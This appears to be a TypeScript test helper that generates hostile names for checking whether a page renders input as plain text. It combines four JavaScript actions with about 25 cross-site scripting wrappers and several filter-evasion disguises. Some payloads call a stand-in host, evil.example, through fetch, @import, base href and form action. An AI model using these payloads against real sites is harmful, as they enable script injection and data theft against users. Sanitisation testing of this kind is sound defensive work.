/** Names that would run a script, or call another host, on a page that took them for more than text. */
export function toHostileNames(): string[] {
  const actions = ['window.pwned=1', 'alert(1)', 'window.pwned&#61;1', 'fetch(`//evil.example`)']
  const wraps = [
    (js: string) => `<script>${js}</script>`,
    (js: string) => `</title><script>${js}</script>`,
    (js: string) => `"><script>${js}</script>`,
    (js: string) => `'><script>${js}</script>`,
    (js: string) => `<img src=x onerror=${js}>`,
    (js: string) => `"><img src=x onerror="${js}">`,
    (js: string) => `<svg onload=${js}>`,
    (js: string) => `<svg><script>${js}</script></svg>`,
    (js: string) => `" autofocus onfocus="${js}`,
    (js: string) => `' autofocus onfocus='${js}`,
    (js: string) => `\` onmouseover=${js} \``,
    (js: string) => `<a href="javascript:${js}">x</a>`,
    (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
    (js: string) => `<body onload=${js}>`,
    (js: string) => `<details open ontoggle=${js}>`,
    (js: string) => `<style>@import'//evil.example';</style>${js}`,
    (js: string) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
    (js: string) => `<base href=//evil.example/>${js}`,
    (js: string) => `<form action=//evil.example><button>${js}</button></form>`,
    (js: string) => `<!--><script>${js}</script>-->`,
    (js: string) => `<![CDATA[><script>${js}</script>]]>`,
    (js: string) => `<math><mtext><script>${js}</script>`,
    (js: string) => `<template><script>${js}</script></template>`,
    (js: string) => `<video><source onerror=${js}></video>`,
    (js: string) => `<input onfocus=${js} autofocus>`,
  ]
  const disguises = [
    (text: string) => text,
    (text: string) => text.toUpperCase().replaceAll('WINDOW.PWNED', 'window.pwned'),
    (text: string) => text.replaceAll('<', '\u{1f60a}<'),
    (text: string) => text.replaceAll('<', '<\u0000'),
    (text: string) => text.replaceAll(' ', '/'),
  ]
  return actions.flatMap((js) => wraps.flatMap((wrap) => disguises.map((dress) => dress(wrap(js)))))
}
